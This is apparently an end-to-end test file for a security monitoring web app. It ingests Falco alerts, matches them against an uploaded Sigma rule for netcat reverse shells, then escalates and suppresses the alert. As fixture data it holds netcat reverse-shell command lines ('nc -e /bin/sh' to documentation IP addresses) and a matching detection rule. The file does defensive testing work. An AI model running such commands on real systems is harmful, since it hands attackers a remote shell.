import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Browser, BrowserContext, Page } from "playwright-core";
import {
  ADMIN_PASSWORD,
  ADMIN_USERNAME,
  apiSession,
  launchBrowser,
  signIn,
  skipE2e,
  startServer,
} from "./server-harness";
import type { ServerHandle } from "./server-harness";

// An uploaded rule rather than one of the built-in pack, so that the test names its author and
// fields itself and does not break when the pack is tuned.
const RULE_ID = "6f1d2c3b-4a5e-4f60-8a7b-9c0d1e2f3a4b";
const RULE_TITLE = "E2E netcat handing out a shell";
const RULE_AUTHOR = "Erika Example (e2e)";
const RULE_YAML = `title: ${RULE_TITLE}
id: ${RULE_ID}
status: test
description: Netcat started with -e gives a remote host a shell on this one.
author: ${RULE_AUTHOR}
references:
  - https://attack.mitre.org/techniques/T1059/004/
tags:
  - attack.execution
  - attack.t1059.004
logsource:
  product: linux
  category: process_creation
detection:
  selection:
    Image|endswith: /nc
    CommandLine|contains: ' -e '
  condition: selection
falsepositives:
  - Administrators debugging with netcat
level: high
`;
const HOST = "mon-e2e-node-1";

/** A Falco alert as `falco -o json_output=true` writes it, for a netcat reverse shell. */
function falcoEvent(time: string, cmdline = "nc -e /bin/sh 203.0.113.7 4444") {
  return {
    hostname: HOST,
    output: `Netcat reverse shell (cmd=${cmdline})`,
    priority: "Warning",
    rule: "Netcat Remote Code Execution in Container",
    source: "syscall",
    tags: ["network", "process"],
    time,
    output_fields: {
      "container.id": "host",
      "evt.type": "execve",
      "proc.cmdline": cmdline,
      "proc.exepath": "/usr/bin/nc",
      "proc.name": "nc",
      "proc.pid": 4242,
      "user.name": "www-data",
    },
  };
}

describe.skipIf(skipE2e)("security monitoring through the real UI", () => {
  let server: ServerHandle;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let ingestToken: string;

  beforeAll(async () => {
    server = await startServer();
    browser = await launchBrowser();
    const call = await apiSession(server.baseUrl, ADMIN_USERNAME, ADMIN_PASSWORD);
    // A service account for the sensor forwarder, with a token that may only ingest.
    const sensor = await call<{ user: { id: string } }>("POST", "/api/v1/users", {
      username: "falco-forwarder",
      kind: "service",
      role: "sirt",
    });
    const token = await call<{ secret: string }>("POST", "/api/v1/tokens", {
      name: "falco-forwarder",
      userId: sensor.user.id,
      scopes: ["alerts:write"],
    });
    ingestToken = token.secret;
    await call("POST", "/api/v1/monitoring/rules", { yaml: RULE_YAML });
    await call("POST", "/api/v1/assets", {
      key: HOST,
      name: "Monitoring e2e node",
      kind: "host",
      identifiers: [{ type: "hostname", value: HOST }],
    });
    context = await browser.newContext({ viewport: { width: 1366, height: 900 } });
    page = await context.newPage();
    await signIn(page, server.baseUrl, ADMIN_USERNAME, ADMIN_PASSWORD);
  });

  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  it("ingests Falco NDJSON with a service token and groups the repeat", async () => {
    const now = Date.now();
    const body = [
      falcoEvent(new Date(now - 60_000).toISOString()),
      falcoEvent(new Date(now - 30_000).toISOString()),
    ]
      .map((e) => JSON.stringify(e))
      .join("\n");
    const res = await fetch(`${server.baseUrl}/api/v1/monitoring/events?source=falco`, {
      method: "POST",
      headers: {
        authorization: `Bearer ${ingestToken}`,
        "content-type": "application/x-ndjson",
      },
      body: `${body}\n`,
    });
    const text = await res.text();
    expect(res.status, text).toBe(200);
    // The built-in pack may hold a netcat rule too: each matching rule opens its own alert.
    const result = JSON.parse(text) as { accepted: number; rejectedCount: number; matches: number };
    expect(result).toMatchObject({ accepted: 2, rejectedCount: 0 });
    expect(result.matches).toBeGreaterThanOrEqual(2);
    const alerts = await fetch(
      `${server.baseUrl}/api/v1/monitoring/alerts?ruleId=${RULE_ID}&status=all`,
      { headers: { authorization: `Bearer ${ingestToken}` } },
    );
    // The ingest-only token may not read alerts.
    expect(alerts.status).toBe(403);
  });

  it("shows the alert in the queue and its detail with the author and matched fields", async () => {
    await page.getByRole("link", { name: "Alerts", exact: true }).click();
    await page.getByRole("heading", { name: "Alerts", level: 1 }).waitFor();
    const table = page.getByRole("table", { name: "Alerts" });
    const row = table.getByRole("row").filter({ hasText: RULE_TITLE });
    await row.waitFor();
    await row.getByText(HOST, { exact: true }).waitFor();
    await row.getByText("Monitoring e2e node").waitFor();
    expect(await row.getByRole("cell", { name: "2", exact: true }).count()).toBe(1);
    await row.getByText(`by ${RULE_AUTHOR}`).waitFor();

    // Filters live in the URL.
    await page.getByRole("textbox", { name: "Host" }).fill("no-such-host");
    await page.waitForURL(/[?&]host=no-such-host/);
    await page.getByText("No alert matches these filters").waitFor();
    await page.getByRole("button", { name: "Clear filters" }).click();
    await row.waitFor();

    await row.getByRole("link", { name: RULE_TITLE }).click();
    await page.getByRole("heading", { name: RULE_TITLE, level: 1 }).waitFor();
    await page.getByTestId("alert-author").getByText(RULE_AUTHOR).waitFor();
    await page.getByTestId("rule-author").getByText(RULE_AUTHOR).waitFor();
    const matched = page.getByRole("table", { name: "Matched fields", exact: true });
    await matched.getByText("CommandLine", { exact: true }).waitFor();
    await matched.getByText("nc -e /bin/sh 203.0.113.7 4444").waitFor();
    // The event as Falco wrote it, with the matched sensor field highlighted.
    const json = page.getByLabel("Event 1 JSON");
    await json.locator('mark[data-matched-field="proc.cmdline"]').waitFor();
    await page.getByRole("link", { name: "T1059.004" }).waitFor();
    await page.getByRole("link", { name: "Monitoring e2e node" }).first().waitFor();
    await page.screenshot({ path: "/tmp/infrasec-e2e-monitoring-alert.png", fullPage: true });
  });

  it("acknowledges the alert and escalates it to an incident work item", async () => {
    await page.getByRole("textbox", { name: "Comment" }).fill("Looking into it");
    await page.getByRole("button", { name: "Acknowledge" }).click();
    await page.getByText("acknowledged", { exact: true }).first().waitFor();
    await page.getByRole("button", { name: "Resolve" }).waitFor();
    await page.getByLabel("History", { exact: true }).getByText("Looking into it").waitFor();

    const alertUrl = page.url();
    await page.getByRole("button", { name: "Escalate to SIRT" }).click();
    const dialog = page.getByRole("dialog", { name: "Escalate to SIRT" });
    await dialog.getByRole("textbox", { name: "Note" }).fill("Reverse shell on a production node");
    await dialog.getByRole("button", { name: "Create incident" }).click();
    await page.waitForURL(/\/work\/items\/\d+$/);
    await page.getByRole("heading", { name: new RegExp(RULE_TITLE), level: 1 }).waitFor();

    // Back on the alert, the incident is linked.
    await page.goto(alertUrl);
    await page.getByText("Escalated to SIRT", { exact: true }).waitFor();
    await page.getByRole("link", { name: /^Incident #\d+$/ }).waitFor();
    expect(await page.getByRole("button", { name: "Escalate to SIRT" }).count()).toBe(0);
  });

  it("tests a pasted event against the rules", async () => {
    await page.getByRole("link", { name: "Rules", exact: true }).last().click();
    await page.getByRole("heading", { name: "Detection rules", level: 1 }).waitFor();
    await page.getByRole("table", { name: "Detection rules" }).getByText(RULE_TITLE).waitFor();
    await page.getByRole("button", { name: "Test against a pasted event" }).click();
    const tester = page.getByRole("region", { name: "Event tester" });
    // A syntax error is located before anything is sent.
    await tester.getByRole("textbox", { name: "Event" }).fill('{\n  "rule": nope\n}');
    await tester.getByRole("button", { name: "Test event" }).click();
    await tester.getByText(/^Line 2, column 11/).waitFor();
    await tester
      .getByRole("textbox", { name: "Event" })
      .fill(
        JSON.stringify(
          falcoEvent(new Date().toISOString(), "nc -e /bin/bash 198.51.100.9 9001"),
          null,
          2,
        ),
      );
    await tester.getByRole("button", { name: "Test event" }).click();
    await tester
      .getByRole("status")
      .getByText(/^\d+ match/)
      .waitFor();
    const fields = tester.getByRole("table", { name: `Matched fields of ${RULE_TITLE}` });
    await fields.getByText("nc -e /bin/bash 198.51.100.9 9001").waitFor();
    await fields.getByText("proc.cmdline", { exact: true }).waitFor();
    await page.screenshot({ path: "/tmp/infrasec-e2e-monitoring-rules.png", fullPage: true });
  });

  it("creates a suppression with a reason and an expiry", async () => {
    await page.getByRole("link", { name: "Suppressions", exact: true }).last().click();
    await page.getByRole("heading", { name: "Alert suppressions", level: 1 }).waitFor();
    await page.getByRole("button", { name: "New suppression" }).click();
    const dialog = page.getByRole("dialog", { name: "New suppression" });
    await dialog.getByRole("textbox", { name: "Rule id" }).fill(RULE_ID);
    await dialog
      .getByRole("textbox", { name: "Conditions" })
      .fill(`host = ${HOST}\nUser = www-data`);
    await dialog.getByRole("textbox", { name: "Reason" }).fill("Pentest window on the e2e node");
    await dialog.getByRole("button", { name: "Create suppression" }).click();
    const table = page.getByRole("table", { name: "Alert suppressions" });
    await table.getByText("Pentest window on the e2e node").waitFor();
    await table.getByText(/^expires in (29|30) days$/).waitFor();
  });
});
